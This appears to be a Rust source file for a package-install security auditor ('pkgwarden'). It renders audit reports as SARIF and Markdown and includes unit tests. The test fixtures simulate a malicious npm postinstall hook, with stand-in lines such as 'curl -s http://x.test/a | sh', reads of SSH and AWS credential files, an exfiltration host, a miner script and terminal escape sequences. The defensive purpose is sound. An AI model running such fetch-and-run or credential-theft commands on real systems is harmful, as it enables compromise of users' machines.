//! The audit report of each install: its model, where it is stored, and how
//! it is shown (human, SARIF, Markdown, JSONL).

pub mod build;
pub mod codequality;
pub mod human;
pub mod jsonl;
pub mod markdown;
pub mod model;
pub mod sarif;
pub mod sink;
pub mod store;

use crate::model::{Evidence, Finding, Taken};
use model::Report;
use std::collections::BTreeSet;
use std::fmt::Write as _;
use std::io::Write as _;
use std::path::Path;
use std::time::{Duration, SystemTime};

/// Writes the report where CI asked for it: SARIF to `$PKGWARDEN_SARIF`,
/// Markdown to `$PKGWARDEN_SUMMARY`, and the Markdown appended to
/// `$GITHUB_STEP_SUMMARY`, each only when the variable is set and not empty.
/// Every destination is tried; the errors (one line each, saying what to do)
/// are returned for the caller to print.
pub fn publish(r: &Report) -> Result<(), Vec<String>> {
    let var = |name: &str| std::env::var_os(name).filter(|v| !v.is_empty());
    let sarif = var("PKGWARDEN_SARIF");
    let summary = var("PKGWARDEN_SUMMARY");
    let step = var("GITHUB_STEP_SUMMARY");
    publish_to(
        r,
        sarif.as_deref().map(Path::new),
        summary.as_deref().map(Path::new),
        step.as_deref().map(Path::new),
    )
}

/// [`publish`] with the destinations given (tests cannot change the
/// environment of a threaded test binary safely).
fn publish_to(
    r: &Report,
    sarif: Option<&Path>,
    summary: Option<&Path>,
    step: Option<&Path>,
) -> Result<(), Vec<String>> {
    let mut errors = Vec::new();
    if let Some(path) = sarif {
        let text = serde_json::to_string_pretty(&sarif::render(r)).unwrap_or_default();
        if let Err(e) = std::fs::write(path, text + "\n") {
            errors.push(format!(
                "pkgwarden: cannot write SARIF to {} (PKGWARDEN_SARIF): {e}; point it at a writable file",
                path.display()
            ));
        }
    }
    let md = (summary.is_some() || step.is_some()).then(|| markdown::render(r));
    if let (Some(path), Some(md)) = (summary, &md)
        && let Err(e) = std::fs::write(path, md)
    {
        errors.push(format!(
            "pkgwarden: cannot write the Markdown summary to {} (PKGWARDEN_SUMMARY): {e}; point it at a writable file",
            path.display()
        ));
    }
    if let (Some(path), Some(md)) = (step, &md) {
        // Other steps append to the same file: append, never truncate.
        let appended = std::fs::OpenOptions::new()
            .create(true)
            .append(true)
            .open(path)
            .and_then(|mut f| f.write_all(format!("{md}\n").as_bytes()));
        if let Err(e) = appended {
            errors.push(format!(
                "pkgwarden: cannot append to {} (GITHUB_STEP_SUMMARY): {e}; check the variable points at the job's summary file",
                path.display()
            ));
        }
    }
    if errors.is_empty() {
        Ok(())
    } else {
        Err(errors)
    }
}

/// Makes untrusted text (paths, command lines and file excerpts written by
/// the package under inspection) safe to print on one line: control
/// characters, including escape sequences that could rewrite the terminal,
/// and bidirectional overrides become visible `\u{…}` escapes.
pub(crate) fn clean(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        let bidi = matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
        if c.is_control() || bidi {
            out.extend(c.escape_unicode());
        } else {
            out.push(c);
        }
    }
    out
}

/// `t` as RFC 3339 UTC (with milliseconds when `millis`), `t + offset_ms`
/// when given; `None` outside what RFC 3339 can say (before 1970, after
/// 9999), where humantime's formatter would panic.
pub(crate) fn rfc3339(t: SystemTime, offset_ms: u64, millis: bool) -> Option<String> {
    let t = t.checked_add(Duration::from_millis(offset_ms))?;
    t.duration_since(SystemTime::UNIX_EPOCH).ok()?;
    let mut s = String::new();
    let written = if millis {
        write!(s, "{}", humantime::format_rfc3339_millis(t))
    } else {
        write!(s, "{}", humantime::format_rfc3339_seconds(t))
    };
    written.ok().map(|()| s)
}

/// `s` cut to at most `max` characters, with `…` when cut.
pub(crate) fn shorten(s: &str, max: usize) -> String {
    if s.chars().count() <= max {
        return s.to_string();
    }
    let mut out: String = s.chars().take(max.saturating_sub(1)).collect();
    out.push('…');
    out
}

/// A command line as a shell would read it: words with spaces or quotes are
/// single-quoted.
pub(crate) fn shell_join(argv: &[String]) -> String {
    argv.iter()
        .map(|a| {
            let plain = !a.is_empty()
                && a.chars().all(|c| {
                    c.is_ascii_alphanumeric() || "-_./=:,+@%^".contains(c) || !c.is_ascii()
                });
            if plain {
                a.clone()
            } else {
                format!("'{}'", a.replace('\'', r"'\''"))
            }
        })
        .collect::<Vec<_>>()
        .join(" ")
}

/// What was run, as typed: the command name as invoked and its arguments
/// as given (`npm i left-pad`, `python3 -m pip install x`), never a mix of
/// what was typed and what it means.
pub(crate) fn command_line(r: &Report) -> String {
    let w = &r.what;
    if !w.typed.is_empty() {
        let words: Vec<String> = std::iter::once(w.typed.clone())
            .chain(w.argv.iter().cloned())
            .collect();
        return shell_join(&words);
    }
    // Reports written before `typed` was kept: the manager's name, and the
    // subcommand when `argv` lacks it.
    let mut words = vec![w.manager.clone()];
    // `argv` may or may not hold the subcommand (`install`, `-m pip
    // install`); never show it twice.
    let cmd: Vec<&str> = w.command.split_whitespace().collect();
    let holds = !cmd.is_empty()
        && w.argv
            .windows(cmd.len())
            .any(|win| win.iter().map(String::as_str).eq(cmd.iter().copied()));
    if !w.command.is_empty() && !holds {
        words.push(w.command.clone());
    }
    words.extend(w.argv.iter().cloned());
    shell_join(&words)
}

/// The first 8 digits of a report id, enough to name it on the command line.
pub(crate) fn short_id(id: &str) -> &str {
    id.get(..8).unwrap_or(id)
}

/// Distinct hosts asked for through the proxy.
pub(crate) fn hosts(r: &Report) -> BTreeSet<&str> {
    r.endpoints.iter().map(|e| e.host.as_str()).collect()
}

/// The one line that best shows what a finding points at: a file (with its
/// line and excerpt), else an endpoint, else a command line, else a detail.
pub(crate) fn evidence_line(e: &Evidence) -> String {
    let mut parts = Vec::new();
    if let Some(p) = e.paths.first() {
        let mut s = p.clone();
        if let Some(line) = e.line {
            s.push_str(&format!(":{line}"));
        }
        if e.paths.len() > 1 {
            s.push_str(&format!(" (+{} more)", e.paths.len() - 1));
        }
        parts.push(s);
        if let Some(x) = &e.excerpt {
            parts.push(x.clone());
        }
    } else if let Some(ep) = &e.endpoint {
        parts.push(ep.clone());
    } else if let Some(argv) = &e.argv {
        parts.push(shell_join(argv));
    }
    if let Some(d) = &e.detail {
        parts.push(d.clone());
    }
    clean(&parts.join("  "))
}

/// `pid 4242 (evil@1.0.0 postinstall)`, or what of it is known.
pub(crate) fn who_did_it(f: &Finding) -> String {
    let mut s = f.pid.map(|p| format!("pid {p}")).unwrap_or_default();
    let origin: Vec<&str> = [f.package.as_deref(), f.hook.as_deref()]
        .into_iter()
        .flatten()
        .collect();
    if !origin.is_empty() {
        if !s.is_empty() {
            s.push(' ');
        }
        s.push_str(&format!("({})", origin.join(" ")));
    }
    if let Some(ms) = f.after_ms {
        if !s.is_empty() {
            s.push(' ');
        }
        s.push_str(&format!("watch window, {} s after the install", ms / 1000));
    }
    clean(&s)
}

/// The lowercase name of what pkgwarden did.
pub(crate) fn taken_name(t: Taken) -> &'static str {
    match t {
        Taken::Observed => "observed",
        Taken::Blocked => "blocked",
        Taken::Quarantined => "quarantined",
    }
}

#[cfg(test)]
pub(crate) mod testdata {
    //! Reports for the renderers' and the store's tests.

    use super::model::*;
    use crate::model::RuleId;
    use crate::model::change::Entry;
    use crate::model::{Action, Event, EventKind};
    use crate::model::{Change, ChangeKind};
    use crate::model::{Evidence, Finding, Severity, Taken};
    use crate::model::{Lingering, ProcNode};
    use crate::model::{Request, request::Verdict};

    /// A report with no findings.
    pub fn clean_report(id: &str) -> Report {
        Report {
            version: VERSION,
            id: id.to_string(),
            started: "2026-03-04T05:06:07.250Z".into(),
            duration_ms: 4321,
            timings: Default::default(),
            who: Who {
                user: Some("alice".into()),
                uid: 1000,
                host: Some("devbox".into()),
                parents: vec!["100 bash".into(), "1 init".into()],
            },
            what: What {
                manager: "pip".into(),
                typed: "pip".into(),
                real_exe: "/usr/bin/pip".into(),
                version: Some("24.0".into()),
                argv: vec!["install".into(), "requests".into()],
                command: "install".into(),
                cwd: "/home/alice/my proj".into(),
                mode: "protect".into(),
                policy_sources: vec!["built-in".into()],
                policy_hash: "ab".repeat(32),
                cooldown: None,
            },
            sandbox: SandboxStatus {
                enforced: vec![
                    "landlock-fs".into(),
                    "seccomp-notify".into(),
                    "proxy".into(),
                ],
                observed_only: vec!["landlock-net".into()],
                landlock: None,
                readable_secrets: vec![],
                refused_grants: vec![],
                filter_still_held: false,
                notifications: 1700,
                snapshot_us: 2100,
                snapshot_incomplete: vec![],
                supervisor_max_rss_kb: None,
                package_code: None,
                supervisor_failed: None,
                intel: None,
            },
            outcome: Outcome {
                status: "completed".into(),
                manager_exit: Some(0),
                signal: None,
                exit_code: 0,
            },
            processes: vec![
                ProcNode {
                    pid: 10,
                    ppid: Some(1),
                    exe: "/usr/bin/python3".into(),
                    argv: vec!["pip".into(), "install".into(), "requests".into()],
                    cwd: Some("/home/alice/my proj".into()),
                    package: None,
                    hook: None,
                },
                ProcNode {
                    pid: 11,
                    ppid: Some(10),
                    exe: "/bin/sh".into(),
                    argv: vec!["sh".into(), "-c".into(), "echo hi".into()],
                    cwd: None,
                    package: Some("requests@2.32.0".into()),
                    hook: Some("setup.py".into()),
                },
            ],
            lingering: vec![],
            files: Files {
                per_root: [("/home/alice/.venv".to_string(), 214u64)].into(),
                outside: vec![],
                secret_reads: vec![],
                writes: 214,
                refused: 0,
            },
            endpoints: vec![
                request("files.pkg.test", 443, Verdict::Allowed),
                request("index.pkg.test", 443, Verdict::Allowed),
                request("files.pkg.test", 443, Verdict::Allowed),
            ],
            network: vec![],
            env: EnvReport {
                removed: vec!["GITHUB_TOKEN".into()],
                kept: vec![],
            },
            snapshot: vec![],
            findings: vec![],
            quarantine: vec![],
            watch: Some(crate::model::WatchReport {
                window_s: 300,
                until: "2026-11-27T10:05:00Z".into(),
                ended: true,
                changes: vec![],
            }),
        }
    }

    fn request(host: &str, port: u16, verdict: Verdict) -> Request {
        Request {
            ms: 120,
            pid: Some(10),
            method: "CONNECT".into(),
            host: host.into(),
            port,
            verdict,
            reason: None,
            bytes_up: 900,
            bytes_down: 120_000,
            duration_ms: 300,
            open_at_end: false,
            upstream_failure: None,
            known_malicious: None,
            held_back: Vec::new(),
            cooldown_unfiltered: None,
        }
    }

    fn event(
        kind: EventKind,
        pid: i32,
        paths: &[&str],
        addr: Option<&str>,
        action: Action,
    ) -> Event {
        Event {
            seq: 1,
            ms: 1500,
            pid,
            ppid: Some(11),
            syscall: "openat".into(),
            kind,
            paths: paths.iter().map(|p| p.to_string()).collect(),
            addr: addr.map(str::to_string),
            action,
            ..Default::default()
        }
    }

    /// A report with findings of every severity, some with file paths
    /// (with and without a line), some with only an endpoint or a command.
    pub fn dirty_report(id: &str) -> Report {
        let mut r = clean_report(id);
        r.what.manager = "npm".into();
        r.what.typed = "npm".into();
        r.what.argv = vec!["install".into(), "evil-pkg".into()];
        r.outcome.status = "blocked".into();
        r.outcome.exit_code = 90;
        r.endpoints
            .push(request("webhook.exfil.test", 443, Verdict::Denied));
        r.network = vec![event(
            EventKind::Connect,
            4242,
            &[],
            Some("203.0.113.9:8080"),
            Action::Denied,
        )];
        r.files.outside = vec![event(
            EventKind::OpenWrite,
            4242,
            &["/home/alice/.bashrc"],
            None,
            Action::Observed,
        )];
        r.files.secret_reads = vec![event(
            EventKind::OpenRead,
            4242,
            &["/home/alice/.ssh/id_ed25519"],
            None,
            Action::Denied,
        )];
        r.lingering = vec![Lingering {
            pid: 4300,
            ppid: 1,
            argv: vec!["node".into(), "/tmp/.x/miner.js".into()],
        }];
        r.processes.push(ProcNode {
            pid: 4242,
            ppid: Some(11),
            exe: "/usr/bin/node".into(),
            argv: vec!["node".into(), "postinstall.js".into()],
            cwd: Some("/home/alice/my proj/node_modules/evil-pkg".into()),
            package: Some("evil-pkg@1.0.0".into()),
            hook: Some("postinstall".into()),
        });
        r.snapshot = vec![Change {
            path: "/home/alice/.bashrc".into(),
            kind: ChangeKind::Modified,
            before: Some(Entry {
                size: 10,
                mtime_ns: 1,
                mode: 0o100644,
                ino: 1,
                ctime_ns: 1,
                uid: 0,
                gid: 0,
                link_target: None,
                sha256: None,
                content: None,
            }),
            after: None,
            added_lines: vec![(12, "curl -s http://x.test/a | sh".into())],
        }];
        r.quarantine = vec![Quarantined {
            original: "/tmp/.x/miner.js".into(),
            stored: "/home/alice/.local/state/pkgwarden/quarantine/1".into(),
            sha256: "cd".repeat(32),
            restored_previous: false,
        }];
        let f =
            |rule: RuleId, sev: Severity, attack: &[&str], evidence: Evidence, action: Taken| {
                Finding {
                    rule,
                    title: format!("{rule} happened"),
                    severity: sev,
                    attack: attack.iter().map(|a| a.to_string()).collect(),
                    pid: Some(4242),
                    chain: vec!["10 pip".into(), "11 sh".into(), "4242 node".into()],
                    package: Some("evil-pkg@1.0.0".into()),
                    hook: Some("postinstall".into()),
                    evidence,
                    action,
                    allowed_by: None,
                    after_ms: None,
                }
            };
        r.findings = vec![
            f(
                RuleId::PersistShellRc,
                Severity::High,
                &["T1546.004"],
                Evidence {
                    paths: vec!["/home/alice/.bashrc".into()],
                    excerpt: Some("curl -s http://x.test/a | sh".into()),
                    line: Some(12),
                    ..Default::default()
                },
                Taken::Quarantined,
            ),
            f(
                RuleId::CredRead,
                Severity::Critical,
                &["T1552.001", "T1552.004"],
                Evidence {
                    paths: vec![
                        "/home/alice/.ssh/id_ed25519".into(),
                        "/home/alice/.aws/credentials".into(),
                    ],
                    ..Default::default()
                },
                Taken::Blocked,
            ),
            f(
                RuleId::NetExfilService,
                Severity::High,
                &["T1567"],
                Evidence {
                    endpoint: Some("webhook.exfil.test:443".into()),
                    ..Default::default()
                },
                Taken::Blocked,
            ),
            f(
                RuleId::NetDirect,
                Severity::High,
                &["T1571", "T1095"],
                Evidence {
                    endpoint: Some("[2001:db8::1]:8080".into()),
                    detail: Some("errno EACCES".into()),
                    ..Default::default()
                },
                Taken::Blocked,
            ),
            f(
                RuleId::ExecSuspicious,
                Severity::Medium,
                &["T1059.004"],
                Evidence {
                    argv: Some(vec!["sh".into(), "-c".into(), "curl x | sh".into()]),
                    ..Default::default()
                },
                Taken::Observed,
            ),
            f(
                RuleId::CredEnv,
                Severity::Low,
                &["T1552.001"],
                Evidence {
                    detail: Some("NPM_TOKEN kept | exposed\nto scripts".into()),
                    ..Default::default()
                },
                Taken::Observed,
            ),
            f(
                RuleId::SandboxEscape,
                Severity::Info,
                &["T1611"],
                Evidence {
                    detail: Some("io_uring_setup".into()),
                    ..Default::default()
                },
                Taken::Blocked,
            ),
        ];
        // A hostile title: terminal escapes and a table-breaking pipe.
        r.findings[4].title = "ran \u{1b}[31mcurl | sh\u{1b}[0m\nfrom a hook".into();
        // A finding with nothing known about the process.
        r.findings[6].pid = None;
        r.findings[6].package = None;
        r.findings[6].hook = None;
        r.findings[6].chain = vec![];
        r
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn clean_escapes_terminal_controls_and_bidi() {
        assert_eq!(clean("a\u{1b}[2Jb"), "a\\u{1b}[2Jb");
        assert_eq!(clean("x\ny"), "x\\u{a}y");
        assert_eq!(clean("a\u{202e}b"), "a\\u{202e}b");
        assert_eq!(clean("plain ünïcode"), "plain ünïcode");
    }

    #[test]
    fn shell_join_quotes_what_a_shell_would_split() {
        let argv = vec![
            "sh".into(),
            "-c".into(),
            "echo 'hi' there".into(),
            "".into(),
        ];
        assert_eq!(shell_join(&argv), r"sh -c 'echo '\''hi'\'' there' ''");
    }

    #[test]
    fn command_line_shows_what_was_typed() {
        let mut r = testdata::clean_report("0123456789abcdef");
        r.what.manager = "npm".into();
        r.what.typed = "npm".into();
        r.what.command = "install".into();
        r.what.argv = vec!["i".into(), "left-pad".into()];
        assert_eq!(command_line(&r), "npm i left-pad");
        r.what.argv = vec!["isntall".into(), "left-pad".into()];
        assert_eq!(command_line(&r), "npm isntall left-pad");
        r.what.manager = "python".into();
        r.what.typed = "python3".into();
        r.what.command = "-m pip install".into();
        r.what.argv = vec!["-m".into(), "pip".into(), "install".into(), "x".into()];
        assert_eq!(command_line(&r), "python3 -m pip install x");
        r.what.typed = "pip3.11".into();
        r.what.argv = vec!["install".into(), "x".into()];
        assert_eq!(command_line(&r), "pip3.11 install x");
    }

    #[test]
    fn command_line_of_an_older_report_never_repeats_the_subcommand() {
        let mut r = testdata::clean_report("0123456789abcdef");
        r.what.typed.clear();
        assert_eq!(command_line(&r), "pip install requests");
        r.what.argv = vec!["requests".into()];
        assert_eq!(command_line(&r), "pip install requests");
        r.what.manager = "python".into();
        r.what.command = "-m pip install".into();
        r.what.argv = vec!["-m".into(), "pip".into(), "install".into(), "x".into()];
        assert_eq!(command_line(&r), "python -m pip install x");
    }

    #[test]
    fn rfc3339_never_panics() {
        let t = humantime::parse_rfc3339("2026-01-01T00:00:00Z").expect("time");
        assert_eq!(
            rfc3339(t, 1500, true).as_deref(),
            Some("2026-01-01T00:00:01.500Z")
        );
        assert_eq!(rfc3339(t, u64::MAX, true), None);
        assert_eq!(rfc3339(t, 1 << 50, false), None);
        let before = SystemTime::UNIX_EPOCH - Duration::from_secs(1);
        assert_eq!(rfc3339(before, 0, false), None);
    }

    #[test]
    fn renderers_survive_extreme_values() {
        let mut r = testdata::dirty_report("7f3a12c4e5d6f7a8");
        r.duration_ms = u64::MAX;
        for e in r.network.iter_mut().chain(r.files.outside.iter_mut()) {
            e.ms = u64::MAX;
        }
        r.endpoints[0].duration_ms = u64::MAX;
        r.endpoints[0].bytes_down = u64::MAX;
        r.started = "9999-12-31T23:59:59Z".into();
        let _ = human::summary(&r, true);
        let _ = human::show(&r, true);
        let _ = sarif::render(&r);
        let _ = markdown::render(&r);
        let _ = jsonl::render(&r);
        let dir = tempfile::tempdir().expect("tempdir");
        store::write_in(dir.path(), &r).expect("write");
        assert_eq!(
            store::list_in(dir.path(), None, false).expect("list").len(),
            1
        );
    }

    #[test]
    fn shorten_counts_characters() {
        assert_eq!(shorten("ééééé", 3), "éé…");
        assert_eq!(shorten("abc", 3), "abc");
    }

    #[test]
    fn publish_writes_sarif_summary_and_appends_step_summary() {
        let dir = tempfile::tempdir().expect("tempdir");
        let r = testdata::dirty_report("0123456789abcdef");
        let sarif = dir.path().join("out.sarif");
        let summary = dir.path().join("summary.md");
        let step = dir.path().join("step.md");
        std::fs::write(&step, "earlier step\n").expect("seed");
        publish_to(&r, Some(&sarif), Some(&summary), Some(&step)).expect("publish");
        let v: serde_json::Value =
            serde_json::from_slice(&std::fs::read(&sarif).expect("sarif")).expect("json");
        assert_eq!(v["version"], "2.1.0");
        let md = std::fs::read_to_string(&summary).expect("md");
        assert!(md.contains("persist.shell-rc"));
        let stepped = std::fs::read_to_string(&step).expect("step");
        assert!(stepped.starts_with("earlier step\n"));
        assert!(stepped.contains(&md));

        let bad = dir.path().join("missing-dir").join("x.sarif");
        let errs = publish_to(&r, Some(&bad), None, None).expect_err("must fail");
        assert_eq!(errs.len(), 1);
        assert!(errs[0].contains("PKGWARDEN_SARIF"), "{}", errs[0]);
    }
}
